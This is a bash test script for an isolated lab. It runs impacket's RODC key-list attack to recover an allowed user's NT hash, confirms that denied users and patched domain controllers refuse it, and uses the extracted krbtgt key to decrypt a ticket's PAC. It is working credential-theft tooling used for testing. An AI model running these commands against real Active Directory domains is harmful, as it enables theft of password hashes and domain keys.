#!/usr/bin/env bash
# impacket, unmodified: the key list of an allowed and of a denied user with the RODC's key, and the PAC of our full TGT.
. "$(dirname "$0")/lib.sh"
need keylistattack.py describeTicket.py kinit python3

rodc_key() { # KEYTAB: the AES-256 key of the read-only DC, in hexadecimal: its kvno holds the key number
  klist -K -e -k "$1" | awk '$1 > 65535 && /aes256/ {gsub(/[()]|0x/, "", $NF); print $NF; exit}'
}
attack() { # USER
  keylistattack.py -kdc dc01.ad.fernhill.example -rodcNo "$RODC" -rodcKey "$RODC_KEY" -domain "$REALM" \
    -t "$1" LIST
}

# impacket's partial TGT has no PAC: a DC of October 2021 still takes it
lab --updates 2021-10
RODC=$(sed -n 's/.*"key_number": *\([0-9]*\).*/\1/p' "$LAB/lab.json" | head -1)
RODC_KEY=$(rodc_key "$LAB/kdc.keytab")
NT=$(sed -n 's/^ada=//p' "$LAB/passwords" | python3 -c "
import sys
from impacket.ntlm import compute_nthash
print(compute_nthash(sys.stdin.read().rstrip('\n')).hex())")
expect "an allowed user's NT hash, the right one" ":$NT" attack ada
refuse_or_say() { attack "$1"; }
expect "a denied user" "KDC_ERR_TGT_REVOKED|not allowed to have passwords replicated" refuse_or_say dom
stop_lab

lab
RODC_KEY=$(rodc_key "$LAB/kdc.keytab")
expect "a hardened DC refuses a ticket without PAC" "KDC_ERR_TGT_REVOKED|not allowed to have passwords replicated" refuse_or_say ada
sed -n 's/^ada=//p' "$LAB/passwords" | kinit ada
cp "${KRB5CCNAME#FILE:}" "$WORK/full.ccache"
KRBTGT_KEY=$(klist -K -e -k "$LAB/kdc.keytab" | awk '/aes256/ && $1 < 65536 && /krbtgt\// {gsub(/[()]|0x/, "", $NF); print $NF; exit}')
expect "describeTicket prints the PAC of a TGT" "Logon Domain Name|User RID|Ada" describeTicket.py --aes "$KRBTGT_KEY" "$WORK/full.ccache"
finish
